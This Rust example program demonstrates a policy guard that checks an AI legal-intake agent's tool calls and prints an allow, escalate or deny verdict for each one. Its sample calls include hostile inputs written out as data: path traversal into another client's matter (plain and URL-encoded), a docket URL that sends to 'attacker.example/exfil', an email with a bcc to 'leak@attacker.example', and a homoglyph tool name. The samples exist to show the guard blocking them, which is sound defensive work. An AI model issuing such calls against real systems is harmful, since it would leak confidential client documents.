//! A small legal-intake agent: the whole deployment (six tools, two roles, one matter per run,
//! escalation, credentials, breakers, budgets, audit) from one policy document.
//!
//! Every proposed call is checked by the guard before it could run; the example prints each call
//! and its verdict, then the audit trail's size. Run with `cargo run --example quickstart`.

use std::sync::Arc;

use secrecy::SecretString;
use tollgate::audit::MemorySink;
use tollgate::credential::StaticSecretProvider;
use tollgate::escalation::MemoryApprovalStore;
use tollgate::policy::{Bindings, Policy};
use tollgate::prelude::*;

const POLICY: &str = include_str!("policies/legal_intake.toml");

fn main() -> Result<(), Box<dyn std::error::Error>> {
    // The document holds every rule and limit; code binds only what a document cannot hold.
    let policy = Policy::from_toml(POLICY)?;
    let audit = Arc::new(MemorySink::new());
    let guard = Guard::from_policy(
        &policy,
        Bindings::new()
            .audit(audit.clone())
            .approvals(Arc::new(MemoryApprovalStore::new()))
            .provider(
                "dms",
                StaticSecretProvider::new(SecretString::from("dms-token")),
            ),
    )?;
    println!(
        "policy `{}` version {:#}",
        policy.document().policy.name,
        guard.policy_version()
    );

    // The intake agent works on matter M-1001, triggered by a paralegal.
    let run = guard.start_run(
        RunContext::new("intake-bot", "intake_agent")
            .for_task("client-intake")
            .triggered_by("paralegal:jdoe")
            .in_compartment("M-1001"),
    )?;
    println!(
        "\n{} (role intake_agent, matter M-1001) may see: {:?}",
        run.id(),
        guard.visible_tools(&run)
    );

    let calls: &[(&str, &str)] = &[
        (
            "search_case_law",
            r#"{"query": "implied warranty of habitability", "jurisdiction": "ny"}"#,
        ),
        (
            "read_document",
            r#"{"matter_id": "M-1001", "path": "/matters/M-1001/intake/questionnaire.pdf"}"#,
        ),
        (
            "read_document",
            r#"{"matter_id": "M-2002", "path": "/matters/M-2002/intake/questionnaire.pdf"}"#,
        ),
        (
            "read_document",
            r#"{"matter_id": "M-1001", "path": "/matters/M-1001/../M-2002/settlement.pdf"}"#,
        ),
        (
            "read_document",
            r#"{"matter_id": "M-1001", "path": "/matters/M-1001/%2e%2e/M-2002/settlement.pdf"}"#,
        ),
        (
            "fetch_court_docket",
            r#"{"url": "https://iapps.nycourts.gov/docket?id=123"}"#,
        ),
        (
            "fetch_court_docket",
            r#"{"url": "https://pacer.uscourts.gov@attacker.example/exfil"}"#,
        ),
        (
            "send_client_email",
            r#"{"matter_id": "M-1001", "to": "tenant@client-mail.example", "subject": "Your intake", "body": "Thank you."}"#,
        ),
        (
            "send_client_email",
            r#"{"matter_id": "M-1001", "to": "tenant@client-mail.example", "subject": "Hi", "body": "...", "bcc": "leak@attacker.example"}"#,
        ),
        (
            "pay_filing_fee",
            r#"{"matter_id": "M-1001", "payment": {"amount": 45, "currency": "USD"}}"#,
        ),
        ("send_client_emaіl", r#"{"matter_id": "M-1001"}"#), // Cyrillic "і"
        (
            "draft_memo",
            r#"{"matter_id": "M-1001", "title": "Intake summary", "body": "..." "#,
        ),
    ];
    for (tool, args) in calls {
        show(&guard, &run, &ToolCall::new(tool, *args));
    }

    // The intake agent validates the same matter in a read-only run: writes are denied and hidden.
    let review = guard.start_run(
        RunContext::new("intake-bot", "intake_agent")
            .in_compartment("M-1001")
            .read_only(),
    )?;
    println!(
        "\n{} (role intake_agent, read-only run) may see: {:?}",
        review.id(),
        guard.visible_tools(&review)
    );
    show(
        &guard,
        &review,
        &ToolCall::new(
            "read_document",
            r#"{"matter_id": "M-1001", "path": "/matters/M-1001/notes/call-log.txt"}"#,
        ),
    );
    show(
        &guard,
        &review,
        &ToolCall::new(
            "draft_memo",
            r#"{"matter_id": "M-1001", "title": "x", "body": "y"}"#,
        ),
    );

    run.finish()?;
    review.finish()?;
    println!(
        "\naudit trail: {} events; last: {}",
        audit.len(),
        audit
            .events()
            .last()
            .map(|e| e.to_string())
            .unwrap_or_default()
    );
    Ok(())
}

fn show(guard: &Guard, run: &Run, call: &ToolCall<'_>) {
    let args = match call.args() {
        tollgate::Args::Json(text) => text.to_owned(),
        tollgate::Args::Value(v) => v.to_string(),
        tollgate::Args::None => "{}".to_owned(),
    };
    println!("  -> {}{}", call.tool().escape_debug(), args);
    match guard.check(run, call) {
        Verdict::Allow(permit) => {
            println!("     ALLOW");
            // The tool would run here; report how it went.
            let _ = permit.complete(Outcome::success());
        }
        Verdict::Escalate(req) => println!("     ESCALATE: approval {}", req.id),
        Verdict::Deny(d) => println!(
            "     DENY [{}] {}\n          rule {}",
            d.code(),
            d.reason(),
            d.rule()
        ),
    }
}
